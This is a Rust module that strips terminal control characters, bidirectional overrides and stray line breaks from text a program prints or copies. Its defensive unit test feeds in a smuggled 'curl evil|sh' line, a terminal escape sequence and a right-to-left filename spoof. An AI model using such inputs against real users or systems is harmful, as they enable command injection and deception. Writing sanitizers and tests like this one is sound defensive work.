//! Text that leaves the program — for a terminal, a file, the clipboard, an error — goes
//! through here: no control characters, nothing that turns the direction of writing, and
//! no line breaks where one line is meant.
//!
//! The text of articles is clean already; paths, identifiers, addresses, names of feeds,
//! tags, notes and what other programs say are not.

use std::borrow::Cow;

/// What stands where a character was that steers the reader's terminal.
const SIGN: char = '\u{fffd}';

/// Whether a character steers instead of saying something.
#[must_use]
pub const fn steers(c: char) -> bool {
    matches!(c,
        '\0'..='\u{1f}'
        | '\u{7f}'..='\u{9f}'
        | '\u{61c}'
        | '\u{200b}'
        | '\u{200e}'
        | '\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e007f}')
}

const fn breaks(c: char) -> bool {
    matches!(c, '\n' | '\r' | '\t' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}')
}

/// The text as one line.
#[must_use]
pub fn line(text: &str) -> Cow<'_, str> {
    if text.chars().any(steers) {
        let one = |c| {
            if breaks(c) {
                ' '
            } else if steers(c) {
                SIGN
            } else {
                c
            }
        };
        Cow::Owned(text.chars().map(one).collect())
    } else {
        Cow::Borrowed(text)
    }
}

/// The text with its lines.
#[must_use]
pub fn lines(text: &str) -> Cow<'_, str> {
    if text.chars().any(|c| c != '\n' && steers(c)) {
        let one = |c| match c {
            '\n' => '\n',
            c if breaks(c) => ' ',
            c if steers(c) => SIGN,
            c => c,
        };
        Cow::Owned(text.chars().map(one).collect())
    } else {
        Cow::Borrowed(text)
    }
}

/// The beginning of a text, of so many bytes at most.
#[must_use]
pub fn at_most(text: &str, bytes: usize) -> &str {
    if text.len() <= bytes {
        return text;
    }
    let end = (0..=bytes).rev().find(|&i| text.is_char_boundary(i)).unwrap_or(0);
    text.get(..end).unwrap_or("")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_steers() {
        assert_eq!(line("http://x/\ncurl evil|sh"), "http://x/ curl evil|sh");
        assert_eq!(line("a\u{1b}]0;b\u{7}\u{9b}31m"), "a\u{fffd}]0;b\u{fffd}\u{fffd}31m");
        assert_eq!(line("\u{202e}gpj.exe\u{2066}"), "\u{fffd}gpj.exe\u{fffd}");
        assert_eq!(lines("a\r\nb\tc\u{2028}d"), "a \nb c d");
        assert!(matches!(line("Quảng Trị — “中文” 👩🏽‍🚒"), Cow::Borrowed(_)));
        for text in ["", "đ", "ab"] {
            assert_eq!(at_most(text, 2), text);
        }
        assert_eq!(at_most("ađ", 2), "a");
    }
}
